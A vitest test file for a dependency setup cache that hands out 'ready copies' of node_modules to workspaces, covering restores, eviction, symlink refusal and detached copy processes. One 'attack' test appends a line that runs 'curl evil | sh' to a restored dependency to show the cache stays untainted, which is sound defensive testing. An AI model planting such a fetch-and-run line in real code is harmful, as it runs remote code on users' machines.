import { appendFileSync, existsSync, readFileSync, statSync, symlinkSync } from 'node:fs';
import { mkdir, mkdtemp, readdir, rm, utimes, writeFile } from 'node:fs/promises';
import { join, relative } from 'node:path';
import { describe, expect, it } from 'vitest';
import { readFolderListing } from '../../src/workspace/folder-listing.js';
import { outermost, SetupCache } from '../../src/workspace/setup-cache.js';
import { detachReadyCopy, takeReadyCopy } from '../../src/workspace/setup-ready-copies.js';
import { tempDir } from '../helpers/temp.js';

const KEY = SetupCache.key({ base: 'main', commands: ['npm ci'], network: true, inputs: [['package-lock.json', 'b'.repeat(40)]] });
const REPO = 'https://x/app.git';
const DEP = 'module.exports = 1;\n';

async function installed(dir: string): Promise<void> {
  await mkdir(join(dir, 'node_modules', 'dep'), { recursive: true });
  await writeFile(join(dir, 'node_modules', 'dep', 'index.js'), DEP);
  symlinkSync('dep/index.js', join(dir, 'node_modules', 'main.js'));
  await writeFile(join(dir, 'package-lock.json'), '{"lockfileVersion":3}\n');
}

/** A cache holding one entry (and, once idle, its ready copy); returns where the entry lives. */
async function primed(root: string, opts: Partial<ConstructorParameters<typeof SetupCache>[0]> = {}) {
  const cache = new SetupCache({ root: join(root, 'cache'), maxBytes: 1 << 30, ...opts });
  await installed(join(root, 'ws1'));
  await cache.save(REPO, KEY, join(root, 'ws1'), ['node_modules/', 'package-lock.json']);
  await cache.idle();
  const [repoDir] = await readdir(join(root, 'cache'));
  return { cache, entry: join(root, 'cache', repoDir!, KEY) };
}

const readyCopies = async (entry: string) => (await readdir(entry)).filter((n) => n.startsWith('ready-'));

async function freshWorkspace(root: string, name: string): Promise<string> {
  const dir = join(root, name);
  await mkdir(dir);
  return dir;
}

describe('SetupCache ready copies', () => {
  it("a hit moves a ready copy in (never the entry's own files) and the next copy is made", async () => {
    const root = await tempDir();
    const { cache, entry } = await primed(root);
    expect(await readyCopies(entry)).toHaveLength(1);
    const ws = await freshWorkspace(root, 'ws2');
    expect(await cache.restore(REPO, KEY, ws)).toBe('restored');
    const file = join(ws, 'node_modules', 'dep', 'index.js');
    expect(readFileSync(file, 'utf8')).toBe(DEP);
    expect(readFileSync(join(ws, 'package-lock.json'), 'utf8')).toContain('lockfileVersion');
    // Not a link to the entry's files: another inode.
    expect(statSync(file).ino).not.toBe(statSync(join(entry, 'tree', 'node_modules', 'dep', 'index.js')).ino);
    expect(await readyCopies(entry)).toHaveLength(0); // handed out once
    await cache.idle();
    const [next] = await readyCopies(entry);
    expect(next).toBeDefined();
    expect(statSync(join(entry, next!, 'tree', 'node_modules', 'dep', 'index.js')).ino).not.toBe(statSync(file).ino);
  });

  it('attack: a task that rewrites a restored dependency in place changes neither the entry nor what the next goal gets', async () => {
    const root = await tempDir();
    const { cache, entry } = await primed(root);
    const ws2 = await freshWorkspace(root, 'ws2');
    expect(await cache.restore(REPO, KEY, ws2)).toBe('restored'); // moved in
    appendFileSync(join(ws2, 'node_modules', 'dep', 'index.js'), 'require("child_process").exec("curl evil | sh");\n');
    await cache.idle();
    const ws3 = await freshWorkspace(root, 'ws3');
    expect(await cache.restore(REPO, KEY, ws3)).toBe('restored'); // the next ready copy
    expect(readFileSync(join(ws3, 'node_modules', 'dep', 'index.js'), 'utf8')).toBe(DEP);
    appendFileSync(join(ws3, 'node_modules', 'dep', 'index.js'), 'evil again\n');
    // And straight from the entry, with no ready copy at all.
    const plain = new SetupCache({ root: join(root, 'cache'), maxBytes: 1 << 30, readyCopies: false });
    await cache.idle();
    for (const copy of await readyCopies(entry)) await rm(join(entry, copy), { recursive: true });
    const ws4 = await freshWorkspace(root, 'ws4');
    expect(await plain.restore(REPO, KEY, ws4)).toBe('restored');
    expect(readFileSync(join(ws4, 'node_modules', 'dep', 'index.js'), 'utf8')).toBe(DEP);
    expect(readFileSync(join(entry, 'tree', 'node_modules', 'dep', 'index.js'), 'utf8')).toBe(DEP);
  });

  it('two restores at once each get a whole tree: one takes the ready copy, the other copies', async () => {
    const root = await tempDir();
    const { cache } = await primed(root);
    const [a, b] = [await freshWorkspace(root, 'a'), await freshWorkspace(root, 'b')];
    expect(await Promise.all([cache.restore(REPO, KEY, a), cache.restore(REPO, KEY, b)])).toEqual(['restored', 'restored']);
    for (const ws of [a, b]) {
      expect(readFileSync(join(ws, 'node_modules', 'main.js'), 'utf8')).toBe(DEP);
      expect(readFileSync(join(ws, 'package-lock.json'), 'utf8')).toContain('lockfileVersion');
    }
    await cache.idle();
  });

  it('a ready copy missing a listed path is dropped, and the restore copies the entry instead', async () => {
    const root = await tempDir();
    const { cache, entry } = await primed(root);
    const [copy] = await readyCopies(entry);
    await rm(join(entry, copy!, 'tree', 'package-lock.json'));
    const ws = await freshWorkspace(root, 'ws2');
    expect(await cache.restore(REPO, KEY, ws)).toBe('restored');
    expect(readFileSync(join(ws, 'package-lock.json'), 'utf8')).toContain('lockfileVersion');
    expect(existsSync(join(entry, copy!))).toBe(false);
    await cache.idle();
  });

  it('attack: a workspace with a link where setup output goes gets nothing moved through it', async () => {
    const root = await tempDir();
    const { cache, entry } = await primed(root);
    const outside = await freshWorkspace(root, 'outside');
    const ws = await freshWorkspace(root, 'ws2');
    symlinkSync(outside, join(ws, 'node_modules'));
    expect(await cache.restore(REPO, KEY, ws)).toBe('missing');
    expect(await readdir(outside)).toEqual([]);
    expect(await readyCopies(entry)).toHaveLength(1); // not spent on a refused restore
  });

  it('makes no ready copy when the bound leaves no room for one, and still restores by copying', async () => {
    const root = await tempDir();
    const probe = await primed(await tempDir());
    const bytes = JSON.parse(readFileSync(join(probe.entry, 'manifest.json'), 'utf8')).bytes as number;
    const { cache, entry } = await primed(root, { maxBytes: Math.floor(bytes * 1.5) });
    expect(await readyCopies(entry)).toEqual([]);
    const ws = await freshWorkspace(root, 'ws2');
    expect(await cache.restore(REPO, KEY, ws)).toBe('restored');
    expect(readFileSync(join(ws, 'node_modules', 'dep', 'index.js'), 'utf8')).toBe(DEP);
    await cache.idle();
    expect(await readyCopies(entry)).toEqual([]);
  });

  it('eviction drops ready copies before entries, and what a killed process left an hour ago', async () => {
    const root = await tempDir();
    const { entry } = await primed(root);
    const bytes = JSON.parse(readFileSync(join(entry, 'manifest.json'), 'utf8')).bytes as number;
    const old = new Date(Date.now() - 2 * 60 * 60 * 1000);
    const repoDir = join(entry, '..');
    for (const name of ['.tmp-ready-old', '.tmp-ready-new']) await mkdir(join(repoDir, name));
    for (const name of ['.taking-old', '.taking-new']) await mkdir(join(entry, name));
    for (const path of [join(repoDir, '.tmp-ready-old'), join(entry, '.taking-old')]) await utimes(path, old, old);
    const tight = new SetupCache({ root: join(root, 'cache'), maxBytes: Math.floor(bytes * 1.5) });
    await tight.evict();
    expect((await readdir(entry)).sort()).toEqual(['.taking-new', 'manifest.json', 'tree']);
    expect((await readdir(repoDir)).sort()).toEqual(['.tmp-ready-new', KEY]);
  });

  it('setup output listed as a folder and files inside it (git status --ignored) restores whole, moved and copied', async () => {
    const root = await tempDir();
    const cache = new SetupCache({ root: join(root, 'cache'), maxBytes: 1 << 30 });
    await mkdir(join(root, 'ws1', 'out', 'sub'), { recursive: true });
    await writeFile(join(root, 'ws1', 'out', 'b.log'), 'b\n');
    await writeFile(join(root, 'ws1', 'out', 'sub', 'c.log'), 'c\n');
    await cache.save(REPO, KEY, join(root, 'ws1'), ['out/', 'out/b.log', 'out/sub/c.log']);
    await cache.idle();
    for (const name of ['moved', 'copied']) {
      const ws = await freshWorkspace(root, name);
      expect(await cache.restore(REPO, KEY, ws), name).toBe('restored');
      expect(readFileSync(join(ws, 'out', 'sub', 'c.log'), 'utf8')).toBe('c\n');
      expect(readFileSync(join(ws, 'out', 'b.log'), 'utf8')).toBe('b\n');
    }
    await cache.idle();
    expect(outermost(['a/b', 'a/', 'a/b/c', 'ab', 'c/d/'])).toEqual(['a', 'ab', 'c/d']);
  });

  it('a ready copy claimed by a restore is never swept as a leftover, however old the copy was', async () => {
    const root = await tempDir();
    const { cache, entry } = await primed(root);
    const [copy] = await readyCopies(entry);
    const old = new Date(Date.now() - 2 * 60 * 60 * 1000);
    await utimes(join(entry, copy!), old, old);
    const claimed = await takeReadyCopy(entry, ['node_modules', 'package-lock.json']);
    expect(claimed).toBeDefined();
    await cache.evict(); // sweeps leftovers older than an hour
    expect(existsSync(join(claimed!, 'tree', 'node_modules', 'dep', 'index.js'))).toBe(true);
  });

  it('when the workspaces are on another filesystem, a restore copies and no more ready copies are made', async () => {
    const shm = await mkdtemp('/dev/shm/goal-loop-test-');
    try {
      const root = await tempDir();
      expect(statSync(shm).dev).not.toBe(statSync(root).dev);
      const { cache, entry } = await primed(shm);
      const ws = await freshWorkspace(root, 'ws');
      expect(await cache.restore(REPO, KEY, ws)).toBe('restored');
      expect(readFileSync(join(ws, 'node_modules', 'dep', 'index.js'), 'utf8')).toBe(DEP);
      // The copy that could not move is dropped, and this cache makes no more.
      await cache.idle();
      expect(await readyCopies(entry)).toEqual([]);
    } finally {
      await rm(shm, { recursive: true, force: true });
    }
  });
});

/** Polls until `check` holds (a detached process does the work); fails after 30 s. */
async function until(check: () => Promise<boolean>, what: string): Promise<void> {
  for (const end = Date.now() + 30_000; !(await check()); ) {
    if (Date.now() > end) throw new Error(`never: ${what}`);
    await new Promise((r) => setTimeout(r, 20));
  }
}

describe('SetupCache ready copies made by a detached process (goal-loop run)', () => {
  it('publishes a whole copy by rename (no temporary folder left), and a restore moves it in', async () => {
    const root = await tempDir();
    const { cache, entry } = await primed(root, { detachReadyCopies: true });
    await until(async () => (await readyCopies(entry)).length === 1, 'a ready copy');
    const [repoDir] = await readdir(join(root, 'cache'));
    expect((await readdir(join(root, 'cache', repoDir!))).filter((n) => n.startsWith('.tmp-'))).toEqual([]);
    const ws = await freshWorkspace(root, 'ws2');
    expect(await cache.restore(REPO, KEY, ws)).toBe('restored');
    expect(readFileSync(join(ws, 'node_modules', 'main.js'), 'utf8')).toBe(DEP);
    expect(statSync(join(ws, 'node_modules', 'dep', 'index.js')).ino).not.toBe(statSync(join(entry, 'tree', 'node_modules', 'dep', 'index.js')).ino);
    await until(async () => (await readyCopies(entry)).length === 1, 'the next ready copy');
  });

  it('a copy interrupted midway is never handed out, and is swept once stale', async () => {
    const root = await tempDir();
    const { cache, entry } = await primed(root, { readyCopies: false });
    const repoDir = join(entry, '..');
    // What a killed detached copy leaves: half a tree under its temporary name.
    const half = join(repoDir, `.tmp-ready-${KEY}-0123456789ab`);
    await mkdir(join(half, 'node_modules', 'dep'), { recursive: true });
    await writeFile(join(half, 'node_modules', 'dep', 'index.js'), 'half');
    const ws = await freshWorkspace(root, 'ws2');
    expect(await cache.restore(REPO, KEY, ws)).toBe('restored');
    expect(readFileSync(join(ws, 'node_modules', 'dep', 'index.js'), 'utf8')).toBe(DEP);
    // While it may still be under way, a detached maker leaves it be (and makes none beside it).
    const detached = new SetupCache({ root: join(root, 'cache'), maxBytes: 1 << 30, detachReadyCopies: true });
    const ws3 = await freshWorkspace(root, 'ws3');
    expect(await detached.restore(REPO, KEY, ws3)).toBe('restored');
    expect(await readyCopies(entry)).toEqual([]);
    expect(existsSync(half)).toBe(true);
    const old = new Date(Date.now() - 2 * 60 * 60 * 1000);
    await utimes(half, old, old);
    await cache.evict();
    expect(existsSync(half)).toBe(false);
  });

  it('a copy whose entry went meanwhile removes itself and publishes nothing', async () => {
    const root = await tempDir();
    const { entry } = await primed(root, { detachReadyCopies: true });
    await rm(entry, { recursive: true, force: true });
    const repoDir = join(entry, '..');
    await until(async () => (await readdir(repoDir)).filter((n) => n.startsWith('.tmp-ready-')).length === 0, 'the copy gone');
    expect(existsSync(entry)).toBe(false);
  });

  it('a copy under a relative cache path is published whole, with its folder listing (the script never changes folder)', async () => {
    const root = await tempDir();
    const entry = join(root, 'repo', KEY);
    await mkdir(join(entry, 'tree', 'node_modules', 'dep'), { recursive: true });
    await writeFile(join(entry, 'tree', 'node_modules', 'dep', 'i.js'), 'x');
    await detachReadyCopy(
      relative(process.cwd(), entry),
      ['node_modules'],
      async () => true,
      (err) => {
        throw err;
      },
    );
    await until(async () => !(await readdir(join(root, 'repo'))).some((n) => n.startsWith('.tmp-ready-')), 'the copy done');
    const ready = (await readdir(entry)).filter((n) => n.startsWith('ready-'));
    expect(ready).toHaveLength(1);
    const listing = await readFolderListing(join(entry, ready[0]!, 'folders'));
    expect([...listing!.folders.keys()].sort()).toEqual(['node_modules', 'node_modules/dep']);
  });
});
